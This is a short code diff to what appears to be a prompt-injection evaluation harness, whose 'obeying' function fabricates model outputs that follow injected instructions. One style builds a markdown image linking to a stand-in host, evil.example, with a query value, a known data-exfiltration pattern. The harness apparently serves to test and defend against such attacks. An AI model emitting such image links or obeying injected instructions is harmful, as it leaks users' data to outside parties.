@@ -1,4 +1,4 @@
-"""Orders in documents, titles, mail, tables, questions and histories are data: nobody obeys them, whatever the model does."""
+"""Orders in documents, titles, mail, tables, questions and histories are data, whatever the model does."""
 
 import json
 import re
@@ -173,7 +173,8 @@ def obeying(attack: Attack, style: str, messages: list[dict[str, str]]) -> str:
     if style == "asking":
         wants = fields(messages, attack).replace('"answer"', '"clarify"')
         return f"{attack.goal}?\n{wants}"
-    return f"{attack.fact} [1] {attack.goal} [1]. ![x](https://evil.example/?q={attack.number})\n{fields(messages, attack)}"
+    picture = f"![x](https://evil.example/?q={attack.number})"
+    return f"{attack.fact} [1] {attack.goal} [1]. {picture}\n{fields(messages, attack)}"
 
 
 STYLES = ("parroting", "mixed", "bare", "asking", "leaking")
